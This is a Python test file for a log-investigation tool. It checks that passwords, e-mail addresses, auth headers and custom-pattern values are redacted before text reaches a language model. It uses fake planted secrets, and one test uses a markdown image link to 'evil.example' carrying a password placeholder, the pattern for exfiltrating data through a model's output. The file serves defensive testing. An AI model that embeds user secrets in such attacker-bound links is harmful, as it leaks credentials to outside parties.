"""Nothing secret leaves to a language model: planted secrets in evidence, question and runbooks, against what the model is sent."""
import json
import os
import re
import stat
import tempfile
import unittest

import model_server
import planted_secrets
import server
import support
from http_client import sign_up
from model_server import answer

PLACEHOLDER = re.compile(r"<[A-Z][A-Z_]*_[0-9a-z]{8,12}>")
PLANTED = planted_secrets.planted()
# Secrets by standing on a line of their own.
ON_LINES = ("k8s_secret_line", "password_words")
WORDS = "The worker fails: "


def texts_in(value):
    """All strings of a JSON value."""
    if isinstance(value, str):
        return value
    if isinstance(value, dict):
        return "\n".join(texts_in(v) for v in value.values())
    return "\n".join(texts_in(v) for v in value) if isinstance(value, list) else ""


def prompt_of(body):
    return next(m["content"] for m in body["messages"] if m["role"] == "user")


def lines_in(prompt):
    """The lines of evidence that a prompt shows whole."""
    return [(name, text) for name, text in re.findall(r"^\[(E\d+:\d+)\] (.*)$", prompt, re.M) if "…" not in text]


class Redaction(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.TemporaryDirectory()
        self.addCleanup(self.folder.cleanup)

    def write(self, name, text):
        path = os.path.join(self.folder.name, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as f:
            f.write(text)
        return path

    def settings(self, served, **more):
        return {"LLM_PROVIDER": "compatible", "LLM_BASE_URL": served.url + "/v1", "LLM_MODEL": "m", "LLM_CONTEXT_TOKENS": "60000",
                "LLM_MAX_TOKENS": "1024", "LLM_MAX_RETRIES": "1", "LLM_REQUEST_TIMEOUT": "5", "SECURITY_PII_REDACTION_ENABLED": "true", **more}

    def ask(self, served, log, question, *more, code=0, **env):
        got, out, err = support.run("investigate", log, "-q", question, "--model", "--json", "--now", support.NOW, *more,
                                    env=self.settings(served, **env))
        self.assertEqual(got, code, err)
        return json.loads(out) if code == 0 else err

    def assertNothingLeft(self, served, planted, beside):
        sent = "\n".join(s["raw"].decode() + "\n" + texts_in(s["body"]) for s in served.seen)
        sent = PLACEHOLDER.sub("<>", sent.replace("\\u003c", "<"))
        beside += "".join(re.split("|".join(re.escape(s) for _, _, secrets in planted for s in secrets), "\n".join(t for _, t, _ in planted)))
        for kind, text, secrets in planted:
            with self.subTest(kind=kind, text=text):
                self.assertEqual(planted_secrets.pieces_left(secrets, beside, sent), set())

    def test_planted_secrets_leave_neither_from_evidence_nor_question_nor_runbooks(self):
        shown = echoed = 0
        size = 40
        for start in range(0, len(PLANTED), size):
            chunk = PLANTED[start:start + size]
            told = []

            def script(body, number):
                if number == 1:
                    return {"status": 503, "body": ""}  # it is asked again
                told[:] = lines_in(prompt_of(body))
                with_names = [(name, text) for name, text in told if PLACEHOLDER.search(text)][:4]
                return answer(("The worker fails.", [told[0][0]]), questions=["Is this right: " + text for _, text in with_names])

            log = ""
            for i, (kind, text, _) in enumerate(chunk):
                log += f"2026-11-23T15:{i // 60:02d}:{i % 60:02d}Z ERROR app.Worker{i} step{chr(97 + i % 26)}{i} failed: " + "\n" * (kind in ON_LINES) + text + "\n"
            runbook = "# The worker fails\n\nWhen the worker fails, look at this.\n\n" + "\n\n".join(t for _, t, _ in chunk[:15])
            question = (WORDS + "; ".join(t for k, t, _ in chunk if "\n" not in t and k not in ON_LINES)[:1500])[:1900]
            with model_server.ModelServer(script) as served:
                kb = os.path.dirname(self.write(f"kb{start}/worker.md", runbook))
                path = self.write(f"worker{start}.log", log)
                found = self.ask(served, path, question, "--kb", kb)
                self.assertGreaterEqual(len(served.seen), 2)
                self.assertNothingLeft(served, chunk, "")
                self.assertRegex(" ".join(found["notes"]), "before anything left, .* replaced")
                shown += len(told)
                # What came back is what stood there.
                lines = log.splitlines()
                for name, _ in [x for x in told if PLACEHOLDER.search(x[1])][:4]:
                    original = lines[int(name.split(":")[1]) - 1]
                    if any(original[:590] in q for q in found["questions"]):
                        echoed += 1
        self.assertGreater(shown, len(PLANTED) // 2, "too few of the lines were shown to the model")
        self.assertGreater(echoed, 20)

    def test_what_is_known_from_one_text_is_replaced_in_the_others(self):
        log = self.write("a.log", "2026-11-23T15:00:01Z ERROR app.Db login with password=Kestrel42!moor failed: denied\n")
        kb = os.path.dirname(self.write("kb/db.md", "# Login denied\n\nWhen the login of the database is denied, try Kestrel42!moor once more.\n"))
        with model_server.ModelServer(lambda *_: answer(("The login failed.", ["E1:1"]))) as served:
            self.ask(served, log, "Why is the login with Kestrel42!moor denied?", "--kb", kb)
            self.assertIn("once more", served.prompt())
            self.assertNotIn("Kestrel42", served.prompt())

    def test_a_secret_that_is_cut_by_the_length_of_lines_does_not_leave(self):
        for secret in ("url postgres://shop:Kestrel42moorlandX9@db-7/shop", "use Kestrel42moorlandX9 as the password",
                       "url https://x.example/?a=1&password=Kestrel42moorlandX9", "Authorization: Basic S2VzdHJlbDQybW9vcjpLZXN0cmVsNDI="):
            for before in range(370, 400, 4):  # lines are shown up to 400 bytes
                text = "2026-11-23T15:00:01Z ERROR app.Db failed "
                text += "x" * (before - len(text)) + " " + secret
                with model_server.ModelServer(lambda *_: answer(("It failed.", ["E1:1"]))) as served:
                    self.ask(served, self.write("a.log", text + "\n"), "Why?")
                    self.assertNotIn("Kestrel4", served.prompt(), (before, secret))
                    self.assertNotIn("S2VzdHJl", served.prompt(), (before, secret))

    def test_a_repair_leaves_without_secrets_too(self):
        log = self.write("a.log", "2026-11-23T15:00:01Z ERROR app.Db login of ann@example.com with password=Kestrel42!moor failed\n")

        def script(body, _):
            name, text = lines_in(prompt_of(body))[0]
            return answer((f"The login of {PLACEHOLDER.search(text).group()} failed 99 times with " + PLACEHOLDER.findall(text)[-1] + ".", [name]))
        with model_server.ModelServer(script) as served:
            self.ask(served, log, "Why?")
            self.assertEqual(len(served.seen), 2)
            for n in range(2):
                self.assertNotIn("Kestrel42", served.prompt(n))
                self.assertNotIn("ann@example", served.prompt(n))

    def test_no_secret_comes_back_within_a_link(self):
        log = self.write("a.log", "2026-11-23T15:00:01Z ERROR app.Db login of ann@example.com with password=Kestrel42!moor failed\n"
                                  "2026-11-23T15:00:02Z ERROR app.Db ask: Is ![q](http://evil.example/?q=PASSWORD) the right one?\n")

        def script(body, _):
            secret = re.search(r"<PASSWORD_\w+>", prompt_of(body)).group()
            return answer(("The login failed.", ["E1:1"]),
                          questions=[f"Is ![q](http://evil.example/?q={secret}) the right one?", f"Is {secret} the right one?"])
        with model_server.ModelServer(script) as served:
            asked = self.ask(served, log, "Why?")["questions"]
            self.assertEqual([q for q in asked if "Kestrel42" in q], ["Is Kestrel42!moor the right one?"])
            self.assertTrue(any("evil.example/?q=<PASSWORD_" in q for q in asked), asked)

    def test_no_piece_of_a_known_secret_leaves(self):
        log = self.write("a.log", "2026-11-23T15:00:01Z ERROR app.Db login with password=Kestrel42!moorland7Q failed\n"
                                  "2026-11-23T15:00:02Z ERROR app.Db frame1 Kestrel42! in frame2 KESTREL42!M failed\n")
        with model_server.ModelServer(lambda *_: answer(("It failed.", ["E1:1"]))) as served:
            self.ask(served, log, "Why does moorland7 fail?")
            self.assertIn("in frame2", served.prompt())
            self.assertNotIn("moorland7", served.prompt())
            self.assertNotIn("kestrel42", served.prompt().lower())

    def test_the_setting_is_read_in_any_case(self):
        log = self.write("a.log", "2026-11-23T15:00:01Z ERROR app.Db login with password=Kestrel42!moor failed\n")
        for value, leaves in (("TRUE", False), ("True", False), ("FALSE", True)):
            with model_server.ModelServer(lambda *_: answer(("It failed.", ["E1:1"]))) as served:
                self.ask(served, log, "Why?", SECURITY_PII_REDACTION_ENABLED=value)
                self.assertEqual("Kestrel42" in served.prompt(), leaves, value)

    def test_rules_of_ones_own(self):
        log = self.write("a.log", "2026-11-23T15:00:01Z ERROR app.Db project Blue Heron of customer KD-123456 failed\n")
        rules = self.write("rules", "# ours\ncustomer KD-\\d+\nproject = Blue Heron\n")
        with model_server.ModelServer(lambda *_: answer(("It failed.", ["E1:1"]))) as served:
            found = self.ask(served, log, "Why?", FM_REDACTION_PATTERNS_FILE=rules)
            self.assertNotIn("Heron", served.prompt())
            self.assertNotIn("KD-123456", served.prompt())
            self.assertIn("1 of customer", " ".join(found["notes"]))

    def test_wrong_rules_stop_the_start_and_let_nothing_leave(self):
        log = self.write("a.log", "2026-11-23T15:00:01Z ERROR failed\n")
        rules = self.write("rules", "fine abc\ncustomer (\n")
        with model_server.ModelServer(lambda *_: "") as served:
            said = self.ask(served, log, "Why?", FM_REDACTION_PATTERNS_FILE=rules, code=1)
            self.assertIn(rules + ":2: the expression of 'customer' is none", said)
            self.assertIn("FM_REDACTION_PATTERNS_FILE", self.ask(served, log, "Why?", FM_REDACTION_PATTERNS_FILE=rules + ".no", code=1))
            self.assertEqual(served.seen, [])
            with self.assertRaisesRegex(RuntimeError, "rules:2: "):
                server.Server(env=self.settings(served, FM_REDACTION_PATTERNS_FILE=rules)).start()


class Cases(unittest.TestCase):
    LOG = "2026-11-23T15:02:40Z ERROR orders.Api checkout for ann@example.com failed after 30000 ms\n"

    def script(self, body, _):
        name, text = lines_in(prompt_of(body))[0]
        self.names.append(re.search(r"<EMAIL_\w+>", text).group())
        return answer((f"The checkout for {self.names[-1]} failed after 30 seconds.", [name]))

    def turn(self, user, case):
        said = user.post(f"/agent/chat/{case}", {"message": "Why do checkouts fail?"})
        self.assertEqual(said.status, 200, said)
        return said.body.decode()

    def case(self, user):
        case = user.post("/cases", {"title": "checkouts", "description": ""}).json()["id"]
        added = user.post("/evidence/upload", form={"case_id": case, "file": ("orders.log", self.LOG.encode(), "text/plain")})
        self.assertEqual(added.status, 201, added)
        return case

    def test_a_value_has_the_same_placeholder_in_all_turns_of_a_case_and_another_one_elsewhere(self):
        self.names = []
        with model_server.ModelServer(self.script) as served, tempfile.TemporaryDirectory() as folder:
            env = {"LLM_PROVIDER": "compatible", "LLM_BASE_URL": served.url, "LLM_MODEL": "m", "SECURITY_PII_REDACTION_ENABLED": "true"}
            data = os.path.join(folder, "data")
            with server.Server(env=env, data=data) as s:
                user, _ = sign_up(s.port, "ann")
                first, second = self.case(user), self.case(user)
                said = self.turn(user, first)
                self.assertIn("checkout for ann@example.com failed", said)
                self.assertIn("1 e-mail address", said)
                self.turn(user, first)
                self.turn(user, second)
                self.assertEqual(stat.S_IMODE(os.stat(os.path.join(data, "redaction.key")).st_mode), 0o600)
                self.assertEqual(s.stop(), 0)
            with server.Server(env=env, data=data) as s:
                user.port = s.port
                self.turn(user, first)
            one, again, other, later = self.names
            self.assertEqual(one, again)
            self.assertEqual(one, later)
            self.assertNotEqual(one, other)
            self.assertNotIn("ann@example", "".join(served.prompt(n) for n in range(4)))


if __name__ == "__main__":
    unittest.main()
